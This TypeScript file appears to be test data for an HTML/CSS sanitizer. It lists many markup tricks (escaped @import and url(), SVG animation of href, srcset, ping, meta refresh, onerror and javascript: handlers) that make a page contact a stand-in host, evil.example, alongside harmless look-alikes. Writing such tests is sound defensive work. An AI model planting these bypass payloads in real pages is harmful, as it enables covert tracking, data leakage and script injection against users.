/** Markup by which a page asks a host: `{host}` stands for it, `{url}` for a file there. */
export interface Vector {
  name: string;
  markup: string;
}

const css = (name: string, rules: string) => ({
  name: `CSS: ${name}`,
  markup: `<style>${rules}</style><div class="box"></div>`,
});
const box = (value: string) => `.box{background:${value}}`;
const svg = (name: string, content: string) => ({
  name: `SVG: ${name}`,
  markup: `<svg width="9" height="9">${content}</svg>`,
});
const html = (name: string, markup: string) => ({ name: `HTML: ${name}`, markup });
const box9 = 'width="9" height="9"';

const styles: Vector[] = [
  css('@import with a string', '@import "{url}";'),
  css('@import with a comment', '@import/**/"{url}";'),
  css('@import with nothing between', '@import"{url}";'),
  css('@import with an escape', '@\\69 mport "{url}";'),
  css('@import in capitals', '@IMPORT URL({url});'),
  css('@import with a layer', '@import url("{url}") layer(a) supports(display: grid) screen;'),
  css('@import with an escaped string', '@import "\\68ttp\\3a//{host}/x";'),
  css('@import of a style sheet in its own address', `@import "data:text/css,@import '{url}'";`),
  css(
    '@import of an image that is a style sheet',
    `@import url("data:text/css;x=image/png,@import '{url}'");`,
  ),
  css('@import after a charset', '@charset "utf-8";@import "{url}";'),
  css('url()', box('url({url})')),
  css('url() with blanks and quotes', box(`url( \n'{url}' )`)),
  css('url() in capitals', box('URL({url})')),
  css('url() with an escaped name', box('u\\72l({url})')),
  css('url() with all of its name escaped', box('\\000075\\72\\6C({url})')),
  css('url() with an escaped address', box('url(\\68 ttp:\\/\\/{host}/x)')),
  css('url() with escaped slashes', box('url("\\2f\\2f{host}/x")')),
  css('url() with backslashes', box('url("\\\\\\\\{host}/x")')),
  css('url() that ends with the file', box('url({url}')),
  css('url() after a comment that looks open', `/* " */${box('url({url})')}`),
  css('url() after a string that does not end', `.a{content:"x\n}${box('url({url})')}`),
  css('image-set() with a string', box('image-set("{url}" 1x)')),
  css('image-set() with an escaped name', box('image\\-set("{url}" 1x)')),
  css('-webkit-image-set() with a string', box('-webkit-image-set("{url}" 1x)')),
  css('image-set() with a custom property', `:root{--x:"{url}"}${box('image-set(var(--x) 1x)')}`),
  css(
    'image-set() with a registered property',
    `@property --z{syntax:"*";inherits:true;initial-value:"{url}"}${box('image-set(var(--z) 1x)')}`,
  ),
  css('url() in a custom property', `:root{--x:url({url})}${box('var(--x)')}`),
  css('a function with a string', `@function --f(){result:"{url}"}${box('image-set(--f() 1x)')}`),
  css(
    'a choice of strings',
    '.box{--k:1;background:image-set(if(style(--k:1):"{url}";else:"/i.png") 1x)}',
  ),
  css(
    '@font-face',
    '@font-face{font-family:f;src:url({url})}.box{font-family:f}.box::before{content:"text"}',
  ),
  css('content', '.box::before{content:url({url})}'),
  css('list-style', '.box{display:list-item;list-style:url({url})}'),
  css('border-image', '.box{border:3px solid;border-image:url({url}) 3}'),
  css('mask', '.box{mask:url({url})}'),
  css('filter', '.box{filter:url("{url}#f")}'),
  css('clip-path', '.box{clip-path:url("{url}#f")}'),
  css('a nested rule', `body{& .box{@media all{background:url({url})}}}`),
  css('src()', box('src("{url}")')),
  css('image()', box('image("{url}")')),
  css('a cursor', '.box{cursor:url({url}),auto}'),
  html('style', '<p style="background:url({url})">x</p>'),
  html(
    'style with character references',
    '<p style="background:&#117;rl&lpar;&quot;http:&sol;/{host}/x&quot;)">x</p>',
  ),
  html('style with image-set()', `<p style='background:image-set("{url}" 1x)'>x</p>`),
];

const foreign: Vector[] = [
  svg(
    'style with a comment',
    '<style>b{<!-- -->}.box{background:url({url})}</style></svg><div class="box"></div><svg>',
  ),
  svg(
    'style with a comment in the address',
    '<style>.box{background:url(http:<!-- -->//{host}/x)}</style></svg><div class="box"></div><svg>',
  ),
  svg(
    'style with CDATA',
    '<style><![CDATA[.box{background:]]>url({url})}</style></svg><div class="box"></div><svg>',
  ),
  svg(
    'style with character references',
    '<style>.box{background:url(&quot;&#x2f;/{host}/x&quot;)}</style></svg><div class="box"></div><svg>',
  ),
  svg('style with an element', '<style>@imp<g>"</g>ort "{url}";</style>'),
  svg('set', `<image ${box9}><set attributeName="href" to="{url}"/></image>`),
  svg('set in capitals', `<image ${box9}><SET ATTRIBUTENAME="href" TO="{url}"/></image>`),
  svg(
    'set of xlink:href',
    `<image ${box9}><set attributeName="xlink:href" to="//{host}/x"/></image>`,
  ),
  svg(
    'animate to',
    `<image ${box9}><animate attributeName="href" to="{url}" dur="1s" fill="freeze"/></image>`,
  ),
  svg(
    'animate from',
    `<image ${box9}><animate attributeName="href" from="{url}" to="/i.png" dur="5s"/></image>`,
  ),
  svg(
    'animate values',
    `<image ${box9}><animate attributeName="href" values="/i.png;\n//{host}/x" dur="1s" fill="freeze"/></image>`,
  ),
  svg(
    'animate values with a tab',
    `<image ${box9}><animate attributeName="href" values="/i.png;/\t/{host}/x" dur="1s" fill="freeze"/></image>`,
  ),
  svg('animate a filter', `<rect ${box9}><set attributeName="filter" to="url({url}#f)"/></rect>`),
  svg(
    'animate through values of a mask',
    `<rect ${box9}><animate attributeName="mask" values="none;url(\\2f/{host}/x)" dur="0.1s" fill="freeze"/></rect>`,
  ),
  svg('style of a marker', '<path d="M0 0L9 9" style="marker:url({url}#f)"/>'),
  svg(
    'set a script',
    `<rect ${box9} id="click"><set attributeName="onclick" to="new Image().src='{url}'"/></rect>`,
  ),
  svg(
    'animate to a script',
    `<a><animate attributeName="href" values="#;javascript:fetch('{url}')"/><text y="9">x</text></a>`,
  ),
  svg('image', `<image href="{url}" ${box9}/>`),
  svg('image by xlink:href', `<image xlink:href="{url}" ${box9}/>`),
  svg('feImage', `<filter id="f"><feImage href="{url}"/></filter><rect filter="url(#f)" ${box9}/>`),
  svg('script', '<script href="{url}"></script>'),
  svg('script by xlink:href', '<script xlink:href="{url}"></script>'),
  svg('filter', `<rect filter="url({url}#f)" ${box9}/>`),
  svg('mask with quotes', `<rect mask="url('{url}#f')" ${box9}/>`),
  svg('clip-path with an escape', `<rect clip-path="u\\72l({url}#f)" ${box9}/>`),
  svg('stroke with escapes', `<rect stroke="url(\\2f\\2f {host}/x#f)" ${box9}/>`),
  svg(
    'foreignObject',
    `<foreignObject ${box9}><img xmlns="http://www.w3.org/1999/xhtml" src="{url}" alt=""></foreignObject>`,
  ),
  svg('use', '<use href="{url}#a"/>'),
  svg('a gradient', `<linearGradient id="g" href="{url}#a"/><rect fill="url(#g)" ${box9}/>`),
  html('MathML', '<math><mtext><img src="{url}" alt=""></mtext></math>'),
  html('MathML style', '<math><mi style="background:url({url})">x</mi></math>'),
];

const elements: Vector[] = [
  html('img', '<img src="{url}" alt="">'),
  html('img with blanks, capitals and a line', '<img src=" \n HT\nTP:\t//{host}/x" alt="">'),
  html('img without a scheme', '<img src="//{host}/x" alt="">'),
  html('img with backslashes', '<img src="\\\\{host}\\x" alt="">'),
  html('img with one backslash and a tab', '<img src="/\t\\{host}/x" alt="">'),
  html('img with no slash after the scheme of another page', '<img src="https:{host}/x" alt="">'),
  html('img with three slashes', '<img src="///{host}/x" alt="">'),
  html(
    'img with one slash after the scheme of another page',
    '<img src="http:\\\\{host}/x" alt="">',
  ),
  html('img with a user', '<img src="//www.acme.example@{host}/x" alt="">'),
  html('img with character references', '<img src="&#x68;ttp&colon;&sol;&sol;{host}/x" alt="">'),
  html('img with a wide letter in its host', '<img src="//{host}。/x" alt="">'),
  html('image', '<image src="{url}">'),
  html('srcset', '<img srcset="/i.png 9x, {url} 1x" alt="">'),
  html('srcset with a form feed', '<img srcset=",,\f{url}\f1x,/i.png 9x" alt="">'),
  html('source', '<picture><source srcset="{url}"><img alt=""></picture>'),
  html('input', '<input type="image" src="{url}" alt="x">'),
  html('video', '<video src="{url}"></video>'),
  html('poster', '<video poster="{url}"></video>'),
  html('audio', '<audio><source src="{url}"></audio>'),
  html('track', '<video src="/i.png"><track default kind="captions" src="{url}"></video>'),
  html('iframe', '<iframe src="{url}"></iframe>'),
  html('srcdoc', '<iframe srcdoc="&lt;img src={url}>"></iframe>'),
  html('a document in its own address', '<iframe src="data:text/html,<img src={url}>"></iframe>'),
  html(
    'an image in its own address that is a document',
    `<iframe src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{url}' width='9' height='9'/></svg>"></iframe>`,
  ),
  html(
    'an image in its own address that is an object',
    `<object data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{url}' width='9' height='9'/></svg>"></object>`,
  ),
  html('frame', '<object data="{url}"></object>'),
  html('embed', '<embed src="{url}">'),
  html('background', '<table background="{url}"><tr><td>x</td></tr></table>'),
  html('ping', '<a href="#" ping="{url}" id="click">x</a>'),
  html('ping of several', '<a href="#" ping="/i.png\n{url}" id="click">x</a>'),
  html('ping of an area', '<map name="m"><area href="#" ping="//{host}/x" id="click"></map>'),
  html('attributionsrc', '<img attributionsrc="{url}" src="/i.png" alt="">'),
  html('form', '<form action="{url}"><button id="click">x</button></form>'),
  html('formaction', '<form><button formaction="{url}" id="click">x</button></form>'),
  html('base', '<base href="http://{host}/"><img src="/i.png" alt="">'),
  html('a stylesheet', '<link rel="stylesheet" href="{url}">'),
  html(
    'a stylesheet in its own address',
    `<link rel="stylesheet" href="data:text/css,@import '{url}'">`,
  ),
  html('an icon', '<link rel="icon" href="{url}">'),
  html('preload', '<link rel="preload" as="image" href="{url}">'),
  html('preload with imagesrcset', '<link rel="preload" as="image" imagesrcset="{url} 1x">'),
  html('modulepreload', '<link rel="modulepreload" href="{url}">'),
  html('prefetch', '<link rel="prefetch" href="{url}">'),
  html('preconnect', '<link rel="preconnect" href="http://{host}:8888">'),
  html('manifest', '<link rel="manifest" href="{url}">'),
  html('dns-prefetch', '<link rel="dns-prefetch" href="//{host}">'),
  html('refresh', '<meta http-equiv="refresh" content="0;url={url}">'),
  html('refresh with a blank in front', '<meta http-equiv=" refresh" content="0;url={url}">'),
  html(
    'refresh in capitals with quotes',
    `<meta http-equiv="REFRESH" content="0 ; URL = '{url}'">`,
  ),
  html('refresh without url', '<meta http-equiv="refresh" content="0,{url}">'),
  html(
    'refresh with a line in it',
    '<meta http-equiv="refresh" content="0;url=ht\ntp://{host}/x">',
  ),
  html('refresh of a fraction', '<meta http-equiv="refresh" content=".1 //{host}/x">'),
  html(
    'a declared shadow root',
    '<div><template shadowrootmode="open"><img src="{url}" alt=""></template></div>',
  ),
  html(
    'a style in a declared shadow root',
    '<div><template shadowrootmode="open"><style>:host{background:url({url})}</style>x</template></div>',
  ),
  html('script', '<script src="{url}"></script>'),
  html('a module', '<script type="module">import "{url}"</script>'),
  html(
    'speculation rules',
    '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["{url}"]}]}</script>',
  ),
  html('an image in a select', '<select><option>a</option><img src="{url}" alt=""></select>'),
  html(
    'an image in a select in a template',
    '<div><template shadowrootmode="open"><select><img src="{url}" alt=""></select></template></div>',
  ),
  html(
    'a link to a document in its own address',
    '<iframe name="q"></iframe><a id="click" target="q" href="data:text/html,<img src={url}>">x</a>',
  ),
  html('an event handler', '<img src="/none.png" onerror="this.src=\'{url}\'" alt="">'),
  html('an event handler of an SVG', '<svg onload="new Image().src=\'{url}\'"></svg>'),
  html(
    'an address that is a script',
    '<iframe src="java\nscript:void(new Image().src=\'{url}\')"></iframe>',
  ),
  html('noscript', '<noscript><img src="{url}" alt=""></noscript>'),
  html('codebase', '<object codebase="{url}" classid="x" archive="{url}"></object>'),
  html('dynsrc', '<img dynsrc="{url}" lowsrc="{url}" alt="">'),
  html('param', '<object><param name="movie" value="{url}"></object>'),
  html('an application cache', '<html manifest="{url}">'),
  html(
    'a report',
    `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri {url}">`,
  ),
  html('a list in data', `<div data-images='["/i.png","//{host}/x"]'></div>`),
  html('an unknown element', '<my-map src="{url}"></my-map>'),
  html('fencedframe', '<fencedframe src="{url}"></fencedframe>'),
  html('profile', '<head profile="{url}">'),
];

export const vectors: Vector[] = [...styles, ...foreign, ...elements];

/** Markup that names a host and asks nobody. */
export const harmless: [name: string, markup: string][] = [
  ['a namespace', '<style>@namespace svg url({url});@namespace/**/"{url}";.box{color:red}</style>'],
  ['a namespace of SVG', '<svg xmlns="{url}" xmlns:x="{url}"></svg>'],
  ['a comment in style rules', '<style>/* url({url}) @import "{url}"; */</style>'],
  ['a text in style rules', '<style>.box::after{content:"see url({url})"}</style>'],
  ['style rules that end too early', '<style>.box{background:url({url}"x)}</style>'],
  ['a text', '<p title="{url}" aria-label="see {url}">@import "{url}"; url({url})</p>'],
  ['a link', '<a href="{url}" title="{url}" rel="noopener" target="_blank">x</a>'],
  ['a source', '<blockquote cite="{url}"><del cite="{url}">x</del></blockquote>'],
  [
    'structured data',
    '<div itemscope itemtype="{url}"></div><script type="application/ld+json">{"url":"{url}"}</script>',
  ],
  ['a value', '<input value="{url}" placeholder="{url}"><meta name="author" content="{url}">'],
  [
    'a title in style rules',
    '<div class="box" style="background:image-set(attr(title) 1x)" title="{url}"></div>',
  ],
  [
    'an image in its own address',
    `<img alt="" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{url}'/></svg>">`,
  ],
  [
    'a comment',
    '<!-- <img src="{url}"> --><select><!-- <img src="{url}"> --><option>a</option></select>',
  ],
];

/** A page with a part of its own, which it clicks if it can be clicked. */
export const pageWith = (part: string) => `<!doctype html>
<html lang="en"><head><title>A page</title><link rel="icon" href="/i.png">
<style>.box{width:9px;height:9px}</style>
<script>addEventListener('load', () => document.getElementById('click')?.click())</script></head>
<body><h1>A page</h1>
${part}
</body></html>
`;

export const hostAt = (i: number) => `v${i}.evil.example`;
export const markupFor = (markup: string, host: string) =>
  markup.replaceAll('{url}', `http://${host}/x`).replaceAll('{host}', host);
